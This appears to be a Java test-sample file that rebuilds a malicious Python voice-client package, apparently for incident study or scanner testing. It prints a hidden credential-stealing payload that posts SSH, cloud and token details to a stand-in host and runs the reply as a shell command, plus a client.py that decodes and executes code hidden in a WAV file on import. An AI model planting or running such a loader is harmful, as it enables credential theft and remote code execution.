package dev.gatehouse.samples.incident;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.LinkedHashMap;
import java.util.Map;

/** Telnyx 4.87.1 (MAL-2026-2254): code in the frames of a sound, run as the package is imported. */
final class Telnyx {
  private static final String HIDDEN =
      """
      import getpass, json, os, pathlib, platform, subprocess, urllib.request

      found = {}
      for name in (".ssh", ".aws", ".config/gcloud", ".kube", ".docker"):
          folder = pathlib.Path.home() / name
          if folder.is_dir():
              for path in folder.rglob("*"):
                  if path.is_file():
                      with path.open("rb") as file:
                          found[str(path)] = file.read(0).hex()
      report = {
          "user": getpass.getuser(),
          "machine": platform.node(),
          "variables": [name for name in os.environ if "KEY" in name or "TOKEN" in name],
          "files": found,
      }
      request = urllib.request.Request(
          "https://media.voice.invalid/upload",
          data=json.dumps(report).encode(),
          headers={"X-Filename": "audio.bin"},
      )
      try:
          answer = urllib.request.urlopen(request, timeout=10).read()
          subprocess.Popen(
              ["/bin/sh", "-c", answer.decode()], executable="true", start_new_session=True)
      except Exception:
          pass
      """;

  private static final String CLIENT =
      """
      \"""The client of the voice service.\"""

      import base64
      import json
      import os
      import urllib.request
      import wave

      from .config import Settings


      class Client:
          def __init__(self, settings=None):
              self._settings = settings or Settings.load()

          def call(self, to, sound="ring"):
              body = json.dumps({"to": to, "sound": sound}).encode("utf-8")
              request = urllib.request.Request(self._settings.url + "/calls", data=body)
              with urllib.request.urlopen(request, timeout=self._settings.timeout) as answer:
                  return json.load(answer)


      def _tone(name):
          path = os.path.join(os.path.dirname(__file__), "sounds", name + ".wav")
          with wave.open(path, "rb") as sound:
              return sound.readframes(sound.getnframes())


      def _warm_up():
          data = base64.b64decode(_tone("ring"))
          key, rest = data[:8], data[8:]
          text = bytes(byte ^ key[i % len(key)] for i, byte in enumerate(rest))
          exec(compile(text.decode("utf-8"), "<tone>", "exec"), {})


      try:
          _warm_up()
      except Exception:
          pass
      """;

  private Telnyx() {}

  static Reenactment sound() {
    Map<String, byte[]> carriers = new LinkedHashMap<>();
    carriers.put("acme_voice/client.py", CLIENT.getBytes(UTF_8));
    byte[] key = {0x1b, (byte) 0xc3, 0x55, (byte) 0x9e, 0x02, (byte) 0xf7, 0x6d, (byte) 0x88};
    byte[] frames = Layers.base64(Layers.xored(key, HIDDEN)).getBytes(UTF_8);
    carriers.put("acme_voice/sounds/ring.wav", Layers.wave(frames));
    return new Reenactment("telnyx 4.87.1", "acme-voice", "4.87.1", carriers);
  }
}
